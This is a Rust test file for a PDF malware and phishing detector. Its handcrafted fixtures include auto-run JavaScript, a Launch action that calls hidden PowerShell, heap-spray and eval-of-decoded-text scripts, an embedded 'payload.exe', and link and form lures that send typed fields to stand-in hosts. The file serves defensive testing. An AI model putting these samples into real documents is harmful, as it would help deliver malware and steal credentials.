//! PDFs written by hand, byte by byte, for each thing the analysis looks for.

use super::*;
use crate::config::Limits;
use crate::formats::pdf::links_only;
use crate::message::opener::Budget;

#[path = "../../../../tests/support/pdf_builder.rs"]
mod pdf_builder;
pub(crate) use pdf_builder::{pdf, stream};

const LONG_TEXT: &str = "BT /F1 11 Tf 72 720 Td (Quarterly report: sales rose in every region, \
    costs fell, and the board approved the budget for next year. Details of each department \
    follow on this page, with the figures the finance team checked and signed off. Please read \
    them before the meeting on Friday and send any questions to the office. Thank you all for \
    the hard work this quarter; the results speak for themselves and we expect more growth.) Tj ET";

fn attachment(data: Vec<u8>) -> Attachment {
    Attachment {
        location: "2/a.pdf".into(),
        name: Some("a.pdf".into()),
        content_type: "application/pdf".into(),
        data,
        ..Attachment::default()
    }
}

fn run(data: Vec<u8>) -> (Vec<Finding>, Opened) {
    let att = attachment(data);
    let mut budget = Budget::new(&Limits::default());
    let mut opened = Opened::default();
    assert!(open(&att, &mut budget, &mut opened), "recognised as a PDF");
    (opened.findings.clone(), opened)
}

fn rules(f: &[Finding]) -> Vec<&str> {
    f.iter().map(|f| f.rule).collect()
}

fn evidence<'f>(f: &'f [Finding], rule: &str, key: &str) -> &'f str {
    f.iter()
        .find(|f| f.rule == rule)
        .and_then(|f| f.evidence.iter().find(|(k, _)| k == key))
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("no {rule} with {key} in {f:?}"))
}

fn page(content_obj: u32, extra: &str) -> Vec<u8> {
    format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {content_obj} 0 R {extra} >>")
        .into_bytes()
}

const PAGES: &[u8] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>";

/// A plain script run on open, in an intact file, is found and shown, as context (issue 17).
#[test]
fn open_action_javascript_is_found_and_a_plain_one_is_context() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\); this.print\\(\\);) >>",
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(rules(&f), ["PDF_AUTORUN_PLAIN_SCRIPT"]);
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "trigger"),
        "/OpenAction"
    );
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "keywords"),
        "1 /JS, 1 /JavaScript, 1 /OpenAction"
    );
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "script"),
        "`app.alert('hi'); this.print();`"
    );
}

#[test]
fn page_open_action_chained_with_next_is_autorun_too() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/AA << /O << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>"),
            &content,
            b"<< /S /JavaScript /JS 6 0 R >>",
            &stream("", b"var x = 1;"),
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "trigger"),
        "/AA /O of page 1"
    );
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "script"),
        "`var x = 1;`"
    );
}

#[test]
fn hex_obfuscated_names_are_evasion_and_still_understood() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< /S /J#61vaScript /J#53 (eval\\(unescape\\('%61%6c%65%72%74'\\)\\)) >>",
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(
        rules(&f),
        [
            "PDF_NAME_OBFUSCATION",
            "PDF_AUTORUN_JAVASCRIPT",
            "PDF_JAVASCRIPT_SUSPICIOUS"
        ]
    );
    assert_eq!(evidence(&f, "PDF_NAME_OBFUSCATION", "count"), "3");
    assert_eq!(
        evidence(&f, "PDF_NAME_OBFUSCATION", "examples"),
        "/Open#41ction /J#61vaScript /J#53"
    );
    assert!(evidence(&f, "PDF_JAVASCRIPT_SUSPICIOUS", "signs").contains("eval of decoded text"));
}

#[test]
fn embedded_files_become_children() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload) 5 0 R] >> >> >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>",
            &stream("/Type /EmbeddedFile", b"MZ\x90\x00this program"),
        ],
        "",
    );
    let (f, opened) = run(data);
    assert_eq!(rules(&f), ["PDF_EMBEDDED_FILE"]);
    assert_eq!(evidence(&f, "PDF_EMBEDDED_FILE", "names"), "payload.exe");
    assert_eq!(opened.children.len(), 1);
    assert_eq!(opened.children[0].name.as_deref(), Some("payload.exe"));
    assert_eq!(opened.children[0].data, b"MZ\x90\x00this program");
}

#[test]
fn launch_actions_name_their_target() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &content,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch \
              /Win << /F (cmd.exe) /P (/c powershell -w hidden -e SQBFAFgA) >> >> >>",
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(rules(&f), ["PDF_LAUNCH"]);
    assert_eq!(evidence(&f, "PDF_LAUNCH", "target"), "cmd.exe");
    assert!(evidence(&f, "PDF_LAUNCH", "params").contains("powershell"));
}

/// A PDF 1.5 file with a cross-reference stream: `plain` objects written out, `packed` objects
/// put in one object stream (object `container`).
fn pdf_with_object_stream(
    plain: &[(u32, &[u8])],
    packed: &[(u32, &[u8])],
    container: u32,
) -> Vec<u8> {
    let mut index = String::new();
    let mut body = Vec::new();
    for (id, m) in packed {
        index.push_str(&format!("{id} {} ", body.len()));
        body.extend_from_slice(m);
        body.push(b' ');
    }
    let first = index.len();
    let mut objstm_data = index.into_bytes();
    objstm_data.extend_from_slice(&body);
    let objstm = stream(
        &format!("/Type /ObjStm /N {} /First {first}", packed.len()),
        &objstm_data,
    );
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = std::collections::BTreeMap::new();
    for (id, obj) in plain
        .iter()
        .copied()
        .chain([(container, objstm.as_slice())])
    {
        offsets.insert(id, out.len());
        out.extend_from_slice(format!("{id} 0 obj\n").as_bytes());
        out.extend_from_slice(obj);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref_id = plain.len() as u32 + packed.len() as u32 + 2;
    offsets.insert(xref_id, out.len());
    let mut rows = Vec::new();
    for id in 0..=xref_id {
        let row: [u8; 7] = if let Some(&off) = offsets.get(&id) {
            let o = (off as u32).to_be_bytes();
            [1, o[0], o[1], o[2], o[3], 0, 0]
        } else if let Some(i) = packed.iter().position(|(p, _)| *p == id) {
            let c = container.to_be_bytes();
            [2, c[0], c[1], c[2], c[3], 0, i as u8]
        } else {
            [0, 0, 0, 0, 0, 0xFF, 0xFF]
        };
        rows.extend_from_slice(&row);
    }
    let xref = stream(
        &format!("/Type /XRef /Size {} /W [1 4 2] /Root 1 0 R", xref_id + 1),
        &rows,
    );
    let at = out.len();
    out.extend_from_slice(format!("{xref_id} 0 obj\n").as_bytes());
    out.extend_from_slice(&xref);
    out.extend_from_slice(format!("\nendobj\nstartxref\n{at}\n%%EOF\n").as_bytes());
    out
}

#[test]
fn a_benign_form_with_a_link_and_object_streams_is_clean() {
    // The catalog, the pages, the field and the link live in an object stream; the form has a
    // calculation and a format script on its field, the page a link among plenty of text.
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf_with_object_stream(
        &[(4, &content)],
        &[
            (1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>"),
            (2, PAGES),
            (3, &page(4, "/Annots [7 0 R 6 0 R]")),
            (
                6,
                b"<< /FT /Tx /T (total) /Subtype /Widget /Rect [10 10 100 30] /P 3 0 R \
                  /AA << /C << /S /JavaScript /JS (event.value = this.getField\\('a'\\).value * 2;) >> \
                  /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, '', true\\);) >> >> >>",
            ),
            (
                7,
                b"<< /Type /Annot /Subtype /Link /Rect [72 100 260 114] \
                  /A << /S /URI /URI (https://www.example.co.jp/info) >> >>",
            ),
        ],
        5,
    );
    let (f, opened) = run(data);
    assert_eq!(
        rules(&f),
        ["PDF_JAVASCRIPT"],
        "the form scripts are only noted"
    );
    assert_eq!(evidence(&f, "PDF_JAVASCRIPT", "count"), "2");
    assert_eq!(opened.links.len(), 1);
    assert_eq!(opened.links[0].href, "https://www.example.co.jp/info");
}

#[test]
fn scripts_inside_object_streams_are_found() {
    let member = b"<< /S /JavaScript /JS (var s = unescape\\('%u0c0c%u0c0c'\\); while \\(s.length < 0x100000\\) s += s;) >>";
    let index = "5 0 ";
    let mut objstm_data = index.as_bytes().to_vec();
    objstm_data.extend_from_slice(member);
    let objstm = stream(
        &format!("/Type /ObjStm /N 1 /First {}", index.len()),
        &objstm_data,
    );
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            &objstm,
        ],
        "",
    );
    // Object 5 is the object stream in the table, and the script object 5 inside it: lopdf
    // keeps the first, so rename the inner one to 6 and point the catalog at it.
    let data = String::from_utf8_lossy(&data)
        .replace("/OpenAction 5 0 R", "/OpenAction 6 0 R")
        .replace("5 0 << /S", "6 0 << /S")
        .into_bytes();
    let (f, _) = run(data);
    assert!(rules(&f).contains(&"PDF_AUTORUN_JAVASCRIPT"), "{f:?}");
    assert!(evidence(&f, "PDF_JAVASCRIPT_SUSPICIOUS", "signs").contains("heap-spray"));
}

/// `pdf` with every in-use offset of its cross-reference table moved on by `by` bytes.
fn offsets_shifted(pdf: &[u8], by: usize) -> String {
    let text = String::from_utf8_lossy(pdf).into_owned();
    let (head, tail) = text.split_at(text.find("xref\n").unwrap());
    let tail = tail
        .lines()
        .map(|l| match l.strip_suffix(" 00000 n ") {
            Some(off) => format!("{:010} 00000 n ", off.parse::<usize>().unwrap() + by),
            None => l.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n");
    format!("{head}{tail}\n")
}

#[test]
fn a_broken_xref_is_repaired_and_still_analysed() {
    let content = stream("", LONG_TEXT.as_bytes());
    let good = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ],
        "",
    );
    // Every offset in the table off by 7, and startxref pointing nowhere.
    let broken = offsets_shifted(&good, 7)
        .replace("startxref\n", "startxref\n9")
        .into_bytes();
    let (f, _) = run(broken);
    assert_eq!(rules(&f), ["PDF_MALFORMED", "PDF_AUTORUN_JAVASCRIPT"]);
}

#[test]
fn password_encrypted_pdfs_are_noted() {
    let content = stream("", LONG_TEXT.as_bytes());
    let o = "<".to_string() + &"4F".repeat(32) + ">";
    let u = "<".to_string() + &"55".repeat(32) + ">";
    let encrypt = format!("<< /Filter /Standard /V 1 /R 2 /O {o} /U {u} /P -44 >>");
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            encrypt.as_bytes(),
        ],
        "/Encrypt 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
    );
    let (f, _) = run(data);
    assert_eq!(rules(&f), ["PDF_ENCRYPTED"]);
}

#[test]
fn a_one_page_link_lure_is_caught_and_a_text_page_with_a_link_is_not() {
    let lure_content = stream("", b"BT /F1 24 Tf 100 500 Td (View Document) Tj ET");
    let link = b"<< /Type /Annot /Subtype /Link /Rect [100 480 300 530] \
        /A << /S /URI /URI (https://login-secure.example.net/doc?id=1) >> >>";
    let lure = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &lure_content,
            link,
        ],
        "",
    );
    let (f, opened) = run(lure);
    assert_eq!(rules(&f), ["PDF_SINGLE_LINK_LURE"]);
    assert_eq!(
        evidence(&f, "PDF_SINGLE_LINK_LURE", "url"),
        "https://login-secure.example.net/doc?id=1"
    );
    assert_eq!(opened.links.len(), 1);

    let text_content = stream("", LONG_TEXT.repeat(3).as_bytes());
    let letter = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &text_content,
            link,
        ],
        "",
    );
    assert!(run(letter).0.is_empty());
}

#[test]
fn header_offset_and_appended_data() {
    let content = stream("", LONG_TEXT.as_bytes());
    let mut data = b"MZ junk before the header\n".to_vec();
    data.extend(pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
        ],
        "",
    ));
    data.extend_from_slice(b"PK\x03\x04");
    data.extend_from_slice(&[b'z'; 100]);
    let (f, _) = run(data);
    let r = rules(&f);
    assert!(r.contains(&"PDF_HEADER_OFFSET"), "{r:?}");
    assert!(r.contains(&"PDF_DATA_AFTER_EOF"), "{r:?}");
    assert_eq!(evidence(&f, "PDF_HEADER_OFFSET", "offset"), "26");
    assert_eq!(evidence(&f, "PDF_DATA_AFTER_EOF", "bytes"), "104");
}

#[test]
fn unreadable_pdfs_fall_back_to_the_raw_bytes() {
    let data =
        b"%PDF-1.4\n garbage /JavaScript /OpenAction (app.alert(1)) no objects at all".to_vec();
    let (f, _) = run(data);
    assert_eq!(rules(&f), ["PDF_PARTLY_ANALYSED", "PDF_AUTORUN_JAVASCRIPT"]);
}

#[test]
fn a_spent_budget_limits_object_streams() {
    let mut objstm_data = b"1 0 ".to_vec();
    objstm_data.extend_from_slice(&[b' '; 5000]);
    objstm_data.extend_from_slice(b"<< /Type /Catalog >>");
    let objstm = stream("/Type /ObjStm /N 1 /First 4", &objstm_data);
    let data = pdf(&[b"null", &objstm], "");
    let mut bytes_left = 1000;
    let a = analyse(&data, &mut bytes_left, true);
    let model = a.model.expect("model");
    assert!(
        model.partial[0].contains("object streams"),
        "{:?}",
        model.partial
    );
}

#[test]
fn non_pdfs_are_not_opened_and_odd_input_does_not_panic() {
    let mut budget = Budget::new(&Limits::default());
    let mut opened = Opened::default();
    assert!(!open(
        &attachment(b"PK\x03\x04 not a pdf".to_vec()),
        &mut budget,
        &mut opened
    ));
    for data in [
        &b"%PDF-"[..],
        b"%PDF-1.7\nxref\n0 99999999\ntrailer<</Root 1 0 R/Size 99999999>>startxref\n9\n%%EOF",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/OpenAction 1 0 R>>endobj trailer<</Root 1 0 R>>",
        b"%PDF-1.7\n1 0 obj [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[ endobj",
    ] {
        let mut opened = Opened::default();
        assert!(open(&attachment(data.to_vec()), &mut budget, &mut opened));
    }
}

#[test]
fn links_and_children_reach_the_message() {
    let link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://evil.example/x) >> >>";
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R 6 0 R]"),
            &content,
            link,
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS << /Type /Filespec /F (run.js) /EF << /F 7 0 R >> >> >>",
            &stream("/Type /EmbeddedFile", b"WScript.Shell"),
        ],
        "",
    );
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
    let raw = format!(
        "Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhi\n\
--b\nContent-Type: application/octet-stream; name=scan.txt\nContent-Transfer-Encoding: base64\n\n{b64}\n--b--\n"
    );
    let msg = crate::message::parse_with(
        raw.as_bytes(),
        &Limits::default(),
        &crate::engine::openers::ALL,
    )
    .unwrap();
    let paths: Vec<_> = msg
        .attachments
        .iter()
        .map(|a| a.location.as_str())
        .collect();
    assert_eq!(paths, ["2/scan.txt", "2/scan.txt!/run.js"]);
    assert_eq!(msg.links.len(), 1);
    assert_eq!(msg.links[0].href, "https://evil.example/x");
    assert_eq!(msg.links[0].location, "link 1 in 2/scan.txt");
    assert!(
        msg.structural
            .iter()
            .any(|f| f.rule == "PDF_EMBEDDED_FILE" && f.location == "2/scan.txt")
    );
}

#[test]
fn a_script_stream_without_length_is_read_up_to_endstream() {
    let content = stream("", LONG_TEXT.as_bytes());
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 5 0 R >> >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< >>\nstream\napp.setTimeOut('run()', 3000);\nendstream",
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(
        evidence(&f, "PDF_AUTORUN_PLAIN_SCRIPT", "script"),
        "`app.setTimeOut('run()', 3000);`"
    );
}

#[test]
fn object_stream_indexes_are_cut_to_the_object_cap() {
    let original = b"1 0 2 5 3 10 % comment\n4 15";
    let mut index = original.to_vec();
    assert!(model::keep_index_pairs_for_tests(&mut index, 2));
    assert_eq!(index.len(), original.len(), "offsets after /First stay put");
    assert!(index.starts_with(b"1 0 2 5 "));
    assert!(index[8..].iter().all(|&b| b == b' '));
    let mut short = b"1 0 2 5".to_vec();
    assert!(!model::keep_index_pairs_for_tests(&mut short, 2));
}

#[test]
fn xfa_scripts_are_read_and_judged() {
    let content = stream("", LONG_TEXT.as_bytes());
    let template = br#"<xdp:xdp><template><subform><event activity="initialize">
<script contentType="application/x-javascript">var s = unescape("%u0c0c%u0c0c"); while (s.length &lt; 0x100000) s += s;</script>
</event><field><script contentType="application/x-javascript"/></field></subform></template></xdp:xdp>"#;
    let data = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [(template) 5 0 R] >> >>",
            PAGES,
            &page(4, ""),
            &content,
            &stream("", template),
        ],
        "",
    );
    let (f, _) = run(data);
    assert_eq!(rules(&f), ["PDF_JAVASCRIPT", "PDF_JAVASCRIPT_SUSPICIOUS"]);
    assert_eq!(evidence(&f, "PDF_JAVASCRIPT", "count"), "1");
    assert!(evidence(&f, "PDF_JAVASCRIPT_SUSPICIOUS", "script").contains("s.length < 0x100000"));
}

#[test]
fn a_short_paragraph_around_a_button_is_still_a_lure_but_not_around_a_text_link() {
    // About 450 characters in two-byte (CID) glyphs: 900 bytes, 450 counted.
    let cid: String = "Your document is ready. Sign in to review and sign it before it expires. "
        .repeat(6)
        .bytes()
        .map(|b| format!("00{b:02X}"))
        .collect();
    let content = stream(
        "",
        format!("BT /F1 12 Tf 72 700 Td <{cid}> Tj ET").as_bytes(),
    );
    let lure = |rect: &str| {
        pdf(
            &[
                b"<< /Type /Catalog /Pages 2 0 R >>",
                PAGES,
                &page(4, "/Annots [5 0 R]"),
                &content,
                format!(
                    "<< /Type /Annot /Subtype /Link /Rect [{rect}] \
                     /A << /S /URI /URI (https://sign-docs.example.net/v/9) >> >>"
                )
                .as_bytes(),
            ],
            "",
        )
    };
    assert_eq!(
        rules(&run(lure("200 300 380 340")).0),
        ["PDF_SINGLE_LINK_LURE"]
    );
    assert!(
        run(lure("72 40 160 50")).0.is_empty(),
        "a footer-sized link"
    );
}

/// A lure has to show the reader something to click: words or a picture. A page that paints
/// nothing, whose link is at most a frame drawn round empty space, asks nothing of anyone (a
/// viewer's test page); the same link over a picture of a document is the lure.
#[test]
fn a_page_that_shows_nothing_under_its_link_is_not_a_lure_but_a_picture_under_it_is() {
    let link = b"<< /Type /Annot /Subtype /Link /Rect [1 1 599 791] /Border [0 0 1] /C [0 1 1] \
        /A << /S /URI /URI (https://docs-view.example.net/s/1) >> >>";
    let blank = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
            link,
        ],
        "",
    );
    assert!(run(blank).0.is_empty(), "a blank page with a framed link");

    let empty_content = stream("", b"q Q");
    let emptied = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &empty_content,
            link,
        ],
        "",
    );
    assert!(run(emptied).0.is_empty(), "content that paints nothing");

    let picture = stream("", b"q 600 0 0 780 6 6 cm /Im1 Do Q");
    let image = stream(
        "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray \
         /BitsPerComponent 8",
        b"\x80",
    );
    let lure = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(
                4,
                "/Annots [5 0 R] /Resources << /XObject << /Im1 6 0 R >> >>",
            ),
            &picture,
            link,
            &image,
        ],
        "",
    );
    assert_eq!(
        rules(&run(lure).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a picture under the link"
    );

    // Text drawn as outlines (no text operators, only filled paths) shows something too.
    let outlines = stream(
        "",
        b"0 0 1 rg 100 480 200 50 re f 1 g 120 495 m 140 515 l 160 495 l f",
    );
    let drawn = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            &page(4, "/Annots [5 0 R]"),
            &outlines,
            link,
        ],
        "",
    );
    assert_eq!(
        rules(&run(drawn).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a drawn button"
    );

    // A link whose own appearance draws the button.
    let button = stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 200 50]",
        b"0 0 1 rg 0 0 200 50 re f",
    );
    let own_look = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [100 480 300 530] /AP << /N 5 0 R >> \
              /A << /S /URI /URI (https://docs-view.example.net/s/1) >> >>",
            &button,
        ],
        "",
    );
    assert_eq!(
        rules(&run(own_look).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a link with its own appearance"
    );
}

/// A page with fields for the reader to fill in is a form: its purpose is the fields, and a
/// link beside them is not what it is for. A form that sends what is typed in to a web site
/// is the credential lure, whatever its fields; fields the reader cannot see or change do not
/// make a form.
#[test]
fn a_form_to_fill_in_with_one_link_is_not_a_lure_unless_it_sends_the_fields_to_a_site() {
    let content = stream(
        "",
        b"BT /F1 12 Tf 100 650 Td (Name:) Tj 0 -40 Td (Test Form) Tj ET",
    );
    let with = |field: &str, action: &str| {
        pdf(
            &[
                b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
                PAGES,
                &page(4, "/Annots [5 0 R 6 0 R]"),
                &content,
                format!("<< /Type /Annot /Subtype /Link /Rect [100 600 300 630] /A {action} >>")
                    .as_bytes(),
                format!(
                    "<< /Type /Annot /Subtype /Widget /T (name) /Rect [150 640 400 665] {field} >>"
                )
                .as_bytes(),
            ],
            "",
        )
    };
    let uri = "<< /S /URI /URI (https://www.example.org/help) >>";
    let submit = "<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/p) >> >>";
    assert!(
        run(with("/FT /Tx", uri)).0.is_empty(),
        "a text field and a link"
    );
    assert!(
        run(with("/FT /Ch /Opt [(a) (b)]", uri)).0.is_empty(),
        "a list and a link"
    );
    assert!(
        run(with("/FT /Btn", uri)).0.is_empty(),
        "a check box and a link"
    );
    assert_eq!(
        rules(&run(with("/FT /Tx", submit)).0),
        ["PDF_SINGLE_LINK_LURE"],
        "typed text sent to a web site"
    );
    assert_eq!(
        rules(&run(with("/FT /Tx /F 2", uri)).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a hidden field"
    );
    assert_eq!(
        rules(&run(with("/FT /Tx /Ff 1", uri)).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a read-only field"
    );
    assert_eq!(
        rules(&run(with("/FT /Btn /Ff 65536", uri)).0),
        ["PDF_SINGLE_LINK_LURE"],
        "a push button is no field to fill in"
    );
}

/// Two pages, each with a link written a different way, plus the catalog's `/URI` base
/// dictionary and the link action's `/S /URI` names that are not targets.
fn two_page_links(second_uri: &str) -> Vec<u8> {
    let content = stream("", LONG_TEXT.as_bytes());
    let annot = |uri: &str| {
        format!("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI {uri} >> >>")
            .into_bytes()
    };
    pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (https://base.example/) >> >>",
            b"<< /Type /Pages /Kids [3 0 R 7 0 R] /Count 2 >>",
            &page(4, "/Annots [5 0 R 6 0 R]"),
            &content,
            &annot("(https://a.example/p\\(1\\)?q=\\061&r=x\\\ny)"),
            &annot("<68747470733A2F2F622E6578616D706C652F 7>"),
            &page(4, "/Annots [8 0 R]"),
            &annot(second_uri),
            b"(https://c.example/)",
        ],
        "",
    )
}

#[test]
fn links_of_a_plain_multi_page_pdf_are_read_from_the_bytes_as_the_model_reads_them() {
    // Literal with escapes and a joined line, hex with an odd digit, UTF-16 with a BOM.
    let data = two_page_links(
        "<FEFF00680074007400700073003A002F002F0064002E006500780061006D0070006C0065002F>",
    );
    let raw = raw::scan(&data);
    let fast = links_only(&data, &raw).expect("read from the bytes");
    let model = model::analyse(&data, &mut 1_000_000, false).expect("model");
    assert_eq!(
        fast.uris,
        [
            "https://a.example/p(1)?q=1&r=xy",
            "https://b.example/p",
            "https://d.example/"
        ]
    );
    // The same links (the model lists them in its own order).
    let (mut a, mut b) = (fast.uris.clone(), model.uris.clone());
    a.sort();
    b.sort();
    assert_eq!(a, b);
    assert_eq!(fast.pages, 2);
    // Through the opener, the links reach the message and there is no finding.
    let (f, opened) = run(data);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(opened.links.len(), 3);
}

#[test]
fn what_the_bytes_cannot_read_is_left_to_the_object_model() {
    // A link target held in another object.
    let data = two_page_links("9 0 R");
    assert!(links_only(&data, &raw::scan(&data)).is_none());
    let (_, opened) = run(data);
    assert!(
        opened.links.iter().any(|l| l.href == "https://c.example/"),
        "{:?}",
        opened.links
    );
    // A sound startxref but object offsets that are off: lopdf repairs it, and says so.
    let good = two_page_links("(https://d.example/)");
    let shifted = offsets_shifted(&good, 7).into_bytes();
    assert!(raw::xref_table_ok(&good));
    assert!(!raw::xref_table_ok(&shifted));
    let (f, _) = run(shifted);
    assert_eq!(rules(&f), ["PDF_MALFORMED"]);
    // Any other active name (here a form) and a single page also take the model.
    let mut form = good.clone();
    form.extend_from_slice(b"/AcroForm");
    assert!(links_only(&form, &raw::scan(&form)).is_none());
    let one_page = String::from_utf8_lossy(&good)
        .replace("/Kids [3 0 R 7 0 R] /Count 2", "/Kids [3 0 R] /Count 1")
        .replace("7 0 obj\n<< /Type /Page ", "7 0 obj\n<< /Type /Pagex ")
        .into_bytes();
    assert!(links_only(&one_page, &raw::scan(&one_page)).is_none());
}

#[test]
fn unclosed_or_huge_strings_after_uri_are_left_to_the_model() {
    for tail in [
        &b"/URI (never closed"[..],
        b"/URI <4142",
        b"/URI <zz>",
        b"/URI",
    ] {
        assert_eq!(
            raw::uri_strings(tail),
            None,
            "{}",
            String::from_utf8_lossy(tail)
        );
    }
    let huge = [b"/URI (".as_slice(), &vec![b'a'; 70_000], b")"].concat();
    assert_eq!(raw::uri_strings(&huge), None);
    let nested = b"/URI (/URI (x) y) /URIs (z)";
    assert_eq!(
        raw::uri_strings(nested),
        Some(vec![b"/URI (x) y".to_vec(), b"x".to_vec()])
    );
}

/// A file as exploit kits left them: the table's offsets wrong and `startxref` pointing nowhere.
fn damaged(good: &[u8]) -> Vec<u8> {
    // Only the table and trailer are text; the objects before them may hold binary streams.
    let at = memchr::memmem::find(good, b"\nxref\n").expect("a cross-reference table") + 1;
    let mut out = good[..at].to_vec();
    let tail = offsets_shifted(&good[at..], 7).replace("startxref\n", "startxref\n9");
    out.extend_from_slice(tail.as_bytes());
    out
}

/// Issue 17: the document's JavaScript name tree runs its scripts when the file opens. In a
/// damaged file the object model cannot follow catalog → /Names → /JavaScript → action; the
/// recovery view joins them from the objects found in the bytes, across objects.
#[test]
fn a_damaged_file_joins_the_javascript_name_tree_to_its_script() {
    let content = stream("", LONG_TEXT.as_bytes());
    let good = pdf(
        &[
            b"<< /Type /Catalog /Pages 2 0 R /Names 6 0 R >>",
            PAGES,
            &page(4, ""),
            &content,
            b"<< /S /JavaScript /JS (var s = unescape\\('%u9090%u9090'\\); app.alert\\(s\\);) >>",
            b"<< /JavaScript 7 0 R >>",
            b"<< /Names [(start) 5 0 R] >>",
        ],
        "",
    );
    let (f, _) = run(damaged(&good));
    assert!(
        rules(&f).contains(&"PDF_AUTORUN_JAVASCRIPT"),
        "{:?}",
        rules(&f)
    );
    let trigger = evidence(&f, "PDF_AUTORUN_JAVASCRIPT", "trigger");
    assert!(
        trigger.starts_with("/Names /JavaScript in 6 0 obj"),
        "{trigger}"
    );
    assert!(trigger.contains("5 0 obj"), "{trigger}");
    assert!(
        evidence(&f, "PDF_AUTORUN_JAVASCRIPT", "script").contains("unescape"),
        "{f:?}"
    );
}

